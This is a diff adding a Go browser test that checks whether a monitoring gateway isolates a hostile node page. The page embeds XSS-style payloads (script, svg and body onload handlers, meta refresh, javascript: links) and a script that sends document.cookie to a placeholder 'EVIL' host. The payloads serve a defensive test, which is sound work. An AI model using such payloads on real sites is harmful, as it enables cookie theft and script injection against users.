@@ -1,0 +1,85 @@
+package page
+
+import (
+	"fmt"
+	"math/rand/v2"
+	"net/http"
+	"net/http/httptest"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/chromedp/chromedp"
+
+	"github.com/dra-exporter/dra-exporter/test/live"
+	"github.com/dra-exporter/dra-exporter/test/simnode"
+)
+
+// hostilePage asks for addresses below EVIL, by itself or if it is clicked.
+const hostilePage = `<!doctype html><title>node</title><meta http-equiv="refresh" content="0;url=EVIL/refresh">
+	<link rel="stylesheet" href="EVIL/style"><body onload="fetch('EVIL/onload')"><img src="EVIL/image">
+	<script>document.title = 'run'; fetch('EVIL/script?' + document.cookie)</script><script src="EVIL/source"></script>
+	<svg onload="fetch('EVIL/svg')"></svg><iframe src="EVIL/frame"></iframe>
+	<form action="EVIL/form" target="_top"><button>a</button></form><a href="javascript:void fetch('EVIL/link')">b</a>`
+
+// testHostileNode opens a hostile page of a node: from the node itself, where it does all it wants,
+// and through the gateway, where it does nothing.
+func testHostileNode(t *testing.T, browser browser) {
+	var mu sync.Mutex
+	asked, cookies := map[string][]string{}, map[string][]string{} // by the host that was asked for
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		defer mu.Unlock()
+		cookies[r.Host] = append(cookies[r.Host], r.Header.Get("Cookie"))
+		if path, ok := strings.CutPrefix(r.URL.Path, "/evil/"); ok {
+			asked[r.Host] = append(asked[r.Host], path)
+			w.WriteHeader(http.StatusNoContent) // the browser stays where it is
+			return
+		}
+		w.Header().Set("Content-Type", "text/html")
+		w.Header().Set("Set-Cookie", "evil=1")
+		_, _ = strings.NewReplacer("EVIL", "http://"+r.Host+"/evil").WriteString(w, hostilePage)
+	}))
+	t.Cleanup(server.Close)
+
+	host := server.Listener.Addr().String()
+	other := strings.Replace(host, "127.0.0.1", "localhost", 1)
+	direct := browser.open(t, "http://"+other, view{width: 1300, height: 900})
+	direct.expectErrors = true
+	click := func(b *tab, what string) {
+		value[bool](b, `document.querySelectorAll('`+what+`').forEach((e) => e.click()) ?? true`)
+	}
+	live.Await(t, limit, "the page does what it wants", func() error {
+		click(direct, []string{"a", "button"}[rand.N(2)]) // a form that is being sent stops a link
+		mu.Lock()
+		defer mu.Unlock()
+		for want := range strings.FieldsSeq("refresh style onload image script source svg frame form link") {
+			if !slices.Contains(asked[other], want) {
+				return fmt.Errorf("%s is not in %q", want, asked[other])
+			}
+		}
+		return nil
+	})
+
+	_, gateway := startGateway(t, server.URL)
+	address := "http://" + gateway.Address + "/"
+	b := browser.open(t, address, view{width: 1300, height: 900, user: "lead"})
+	b.expectErrors = true // the policy forbids the style
+	value[bool](b, `Boolean(document.cookie = 'session=secret')`)
+	address += "node/" + simnode.Name + "/"
+	b.do(chromedp.Navigate(address))
+	b.picture("hostile-node")
+	b.await("some time later", `performance.now() > 2000`)
+	click(b, "a, button") // this would stop what the page does by itself
+	b.await("some time later", `performance.now() > 4000`)
+	const want = "node session=secret "
+	if got := value[string](b, `document.title + ' ' + document.cookie + ' ' + location`); got != want+address {
+		t.Errorf("the title, cookies and address are %q, want %q", got, want+address)
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if len(asked[host]) > 0 || len(cookies[host]) == 0 || strings.Join(cookies[host], "") != "" {
+		t.Errorf("the page asked for %q, and the node received the cookies %q", asked[host], cookies[host])
+	}
+}
